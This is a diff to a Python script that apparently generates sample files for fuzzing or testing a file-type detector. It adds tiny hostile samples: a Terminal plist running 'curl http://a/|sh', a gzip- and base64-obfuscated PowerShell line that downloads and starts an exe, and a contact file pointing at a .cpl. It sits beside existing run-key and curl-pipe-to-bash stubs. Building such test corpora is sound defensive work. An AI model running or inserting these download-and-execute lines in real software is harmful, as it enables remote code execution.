@@ -6,6 +6,7 @@ fuzz-program.c. Run after adding one; the files are checked in.
 """
 
 import base64
+import gzip
 import importlib.util
 import pathlib
 
@@ -67,6 +68,14 @@ FILES = {
     "theme": ("", b"[Theme]\nWallpaper=\\\\h\\a\n[VisualStyles]\nPath=\\\\h\n"),
     "reg": ("a.reg", b"REGEDIT4\n[HKCU\\Software\\Microsoft\\Windows\\Current"
             b"Version\\Run]\n\"a\"=\"b\"\n"),
+    "contact": ("", b"<?xml version='1.0'?><c:contact xmlns:c=\"http://schemas."
+                b"microsoft.com/Contact\"><c:Value>.\\a\\b.cpl</c:Value>"),
+    "terminal": ("", b"<?xml version='1.0'?><plist><key>CommandString</key>"
+                 b"<string>curl http://a/|sh</string>"),
+    "chm": ("", cases.chm(("/a.html", cases.HELP_COMMAND))),
+    "deflated": ("a.ps1", b"'" + base64.b64encode(gzip.compress(
+        b"iwr http://example.com/ -outfile a.exe; start-process a.exe",
+        mtime=0)) + b"'"),
     "appref": ("a.appref-ms", b"http://a/b.application#a, c\n"),
     "sh": ("a.sh", b"#!/bin/sh\ncurl http://a/ | bash\nchmod +x a\n"),
     "py": ("a.py", b"import urllib.request\nexec(a)\n"),
